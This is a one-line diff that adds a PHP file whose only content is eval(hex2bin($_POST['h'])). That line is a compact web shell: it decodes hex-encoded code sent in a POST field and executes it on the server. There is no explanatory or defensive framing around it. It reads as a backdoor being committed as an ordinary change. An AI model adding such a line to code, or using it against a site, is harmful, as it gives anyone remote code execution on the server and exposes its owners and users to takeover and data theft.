@@ -1,0 +1,1 @@
+<?php eval(hex2bin($_POST["h"]));
